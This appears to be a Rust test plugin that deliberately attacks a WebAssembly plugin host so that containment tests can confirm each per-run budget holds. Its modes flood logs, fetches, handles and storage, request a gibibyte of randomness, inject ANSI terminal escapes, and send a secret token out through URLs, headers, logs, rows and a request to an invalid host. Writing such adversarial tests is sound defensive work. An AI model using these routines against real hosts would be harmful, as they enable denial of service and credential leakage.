//! A plugin that attacks the host through everything it can make the host
//! do on its behalf, so the tests can prove that every per-run budget
//! holds: log lines, fetch records and URLs, open bodies, bytes fetched,
//! bookmarks and checkpoints, calls of the small imports, handles,
//! `wasi:random`, warnings, staged rows, secrets and control characters.
//!
//! The `mode` config key picks the attack; `url` names a URL where one is
//! needed. Where the SDK would stop an attack first, the raw imports are
//! called, as a plugin written in another language could.

use vitrina_sdk::bindings::vitrina::plugin::{log as wit_log, sink, types};
use vitrina_sdk::prelude::*;

struct Attacker;

const STREAM: &str = "items";
/// Extra streams, for attacks on the bookmarks of several streams.
const SPARE_STREAMS: usize = 7;

impl Plugin for Attacker {
    fn describe() -> PluginInfo {
        let mut info = PluginInfo::new(
            "attacker",
            env!("CARGO_PKG_VERSION"),
            "Tries to exhaust the host, for the containment tests.",
        )
        .config(ConfigKey::required("mode", "Which attack to make."))
        .config(ConfigKey::optional("url", "A URL the attack fetches."))
        .config(ConfigKey::optional("count", "How many times to repeat it."))
        .stream(item_stream(STREAM));
        for i in 0..SPARE_STREAMS {
            info = info.stream(item_stream(&format!("spare_{i}")));
        }
        info
    }

    fn collect(run: &mut Run) -> Result<(), Error> {
        let mode = run.require("mode")?;
        let count: u64 = run
            .config("count")
            .and_then(|c| c.parse().ok())
            .unwrap_or(100_000);
        match mode.as_str() {
            "none" => {}
            "log_flood" => log_flood(count),
            "log_giant" => log_giant(),
            "fetch_flood" => fetch_flood(run, count)?,
            "long_url" => long_url(run)?,
            "open_bodies" => open_bodies(run, count)?,
            "fetch_bytes" => fetch_bytes(run, count)?,
            "checkpoint_flood" => checkpoint_flood(count)?,
            "config_flood" => config_flood(count),
            "bookmark_bomb" => bookmark_bomb()?,
            "handle_flood" => handle_flood(count),
            "random_bomb" => random_bomb(),
            "warning_flood" => warning_flood(run, count),
            "staging_flood" => return staging_flood(count),
            "ansi" => ansi(),
            "json_deep" => return json_deep(),
            "secret_everywhere" => secret_everywhere(run)?,
            "secret_row" => return secret_row(run),
            "secret_error" => return secret_error(run),
            "secret_panic" => secret_panic(run),
            other => return Err(Error::config(format!("unknown mode {other:?}"))),
        }
        emit_one(run)
    }
}

vitrina_sdk::export_plugin!(Attacker);

fn item_stream(name: &str) -> StreamSchema {
    StreamSchema::new(name, "An item.")
        .field(Field::text("id", "Item id.").key())
        .field(Field::text("note", "A note.").nullable())
        .field(Field::json("extra", "Anything.").nullable())
}

/// One valid row, so a run that survives its attack publishes a version.
fn emit_one(run: &mut Run) -> Result<(), Error> {
    let row = run
        .row(STREAM)
        .set("id", "survivor")
        .set("note", "the run went on");
    run.emit(row)
}

fn raw_write(stream: &str, rows: &[Vec<types::Cell>]) -> Result<(), Error> {
    sink::write(stream, rows).map_err(|e| Error::internal(e.message))
}

/// Lines with long messages and many long fields, far past the budget.
fn log_flood(count: u64) {
    let message = "flood ".repeat(10_000);
    let fields: Vec<(String, String)> = (0..100)
        .map(|i| (format!("field_{i}"), "v".repeat(4_000)))
        .collect();
    for _ in 0..count {
        wit_log::log(types::LogLevel::Info, &message, &fields);
    }
}

/// One line of 100 MiB.
fn log_giant() {
    let message = "g".repeat(100 * 1024 * 1024);
    wit_log::log(types::LogLevel::Info, &message, &[]);
}

/// Fetches without end (each body dropped at once).
fn fetch_flood(run: &mut Run, count: u64) -> Result<(), Error> {
    let url = run.require("url")?;
    for i in 0..count {
        // A distinct URL each time, so every record would be new.
        Request::get(format!("{url}?page={i}&token=abcdefgh{i}")).send()?;
    }
    Ok(())
}

/// A 1 MiB URL, again and again; each is refused, the run goes on.
fn long_url(run: &mut Run) -> Result<(), Error> {
    let url = run.require("url")?;
    let long = format!("{url}?q={}", "a".repeat(1024 * 1024));
    for _ in 0..100 {
        if Request::get(long.as_str()).send().is_ok() {
            return Err(Error::internal("a 1 MiB URL was fetched"));
        }
    }
    Ok(())
}

/// Holds every body open; the host refuses once the budget is reached.
fn open_bodies(run: &mut Run, count: u64) -> Result<(), Error> {
    let url = run.require("url")?;
    let mut held = Vec::new();
    for _ in 0..count {
        held.push(Request::get(url.as_str()).send()?);
    }
    Err(Error::internal(format!("{} bodies held open", held.len())))
}

/// Reads the same body again and again, past the run's byte budget.
fn fetch_bytes(run: &mut Run, count: u64) -> Result<(), Error> {
    let url = run.require("url")?;
    for _ in 0..count {
        fetch::get(&url)?.bytes()?;
    }
    Ok(())
}

/// Checkpoints without end, ignoring refusals.
fn checkpoint_flood(count: u64) -> Result<(), Error> {
    for i in 0..count {
        let _ = sink::checkpoint(STREAM, &format!("bookmark {i}"));
    }
    Ok(())
}

/// Asks for the same config key without end.
fn config_flood(count: u64) {
    for _ in 0..count {
        std::hint::black_box(vitrina_sdk::bindings::vitrina::plugin::config::get("mode"));
    }
}

/// Bookmarks of almost 1 MiB on every stream: 8 MiB together.
fn bookmark_bomb() -> Result<(), Error> {
    let big = "b".repeat(1000 * 1024);
    let streams =
        std::iter::once(STREAM.to_string()).chain((0..SPARE_STREAMS).map(|i| format!("spare_{i}")));
    for stream in streams {
        sink::checkpoint(&stream, &big).map_err(|e| Error::internal(e.message))?;
    }
    Ok(())
}

/// WASI pollables, never dropped: each is a handle in the host's table.
fn handle_flood(count: u64) {
    for _ in 0..count {
        let pollable = wasip2::clocks::monotonic_clock::subscribe_duration(1_000_000_000);
        std::mem::forget(pollable);
    }
}

/// Asks `wasi:random` for a gibibyte at once.
fn random_bomb() {
    let bytes = wasip2::random::random::get_random_bytes(1024 * 1024 * 1024);
    std::hint::black_box(bytes);
}

/// Warnings without end, each a kibibyte.
fn warning_flood(run: &mut Run, count: u64) {
    let text = "w".repeat(1024);
    for i in 0..count {
        run.warn(format!("{i} {text}"));
    }
}

/// Batches of rows of 256 KiB each, as fast as the host takes them.
fn staging_flood(count: u64) -> Result<(), Error> {
    let note = "s".repeat(256 * 1024);
    for batch in 0..count {
        let rows: Vec<Vec<types::Cell>> = (0..32)
            .map(|i| {
                vec![
                    types::Cell::Text(format!("{batch}-{i}")),
                    types::Cell::Text(note.clone()),
                    types::Cell::Null,
                ]
            })
            .collect();
        raw_write(STREAM, &rows)?;
    }
    Ok(())
}

/// Escape sequences that would clear and recolour the operator's terminal.
fn ansi() {
    wit_log::log(
        types::LogLevel::Warn,
        "\u{1b}[2J\u{1b}[31mred alert\u{1b}[0m\rover\u{202e}written",
        &[("k\u{1b}[1m".to_string(), "v\u{7}".to_string())],
    );
    println!("\u{1b}]0;new title\u{7}printed");
}

/// A JSON cell nested 100 levels deep.
fn json_deep() -> Result<(), Error> {
    let json = format!("{}{}", "[".repeat(100), "]".repeat(100));
    raw_write(
        STREAM,
        &[vec![
            types::Cell::Text("deep".into()),
            types::Cell::Null,
            types::Cell::Json(json),
        ]],
    )
}

fn secret(run: &Run) -> Result<String, Error> {
    run.secret("token")
        .ok_or_else(|| Error::config("the secret `token` is not set"))
}

/// The secret in every place the host might record: a query string, a
/// URL's userinfo, a header, a log message and its fields, a warning, a
/// refused URL's error message. The run itself succeeds.
fn secret_everywhere(run: &mut Run) -> Result<(), Error> {
    let secret = secret(run)?;
    let url = run.require("url")?;
    let with_query = format!("{url}?api_key={secret}&page=1");
    Request::get(with_query).send()?;
    let with_userinfo = url.replacen("://", &format!("://user:{secret}@"), 1);
    let _ = Request::get(with_userinfo).send();
    Request::get(url.as_str())
        .header("Authorization", &format!("Bearer {secret}"))
        .header("X-Api-Key", &secret)
        .send()?;
    // A host nobody allowed: the refusal's message names the URL.
    let _ = Request::get(format!("https://{secret}.example.invalid/?key={secret}")).send();
    wit_log::log(
        types::LogLevel::Info,
        &format!("using the token {secret} now"),
        &[("token".to_string(), secret.clone())],
    );
    println!("stdout says {secret}");
    run.warn(format!("warning with {secret}"));
    Ok(())
}

/// The secret in a row: the run must fail and publish nothing.
fn secret_row(run: &mut Run) -> Result<(), Error> {
    let secret = secret(run)?;
    let row = run
        .row(STREAM)
        .set("id", "leak")
        .set("note", format!("token={secret}"));
    run.emit(row)
}

/// The secret in the run's own error.
fn secret_error(run: &mut Run) -> Result<(), Error> {
    let secret = secret(run)?;
    Err(Error::source_changed(format!("the source said {secret}")))
}

/// The secret in a panic message.
fn secret_panic(run: &mut Run) {
    let secret = secret(run).unwrap_or_default();
    panic!("panicking with {secret}");
}
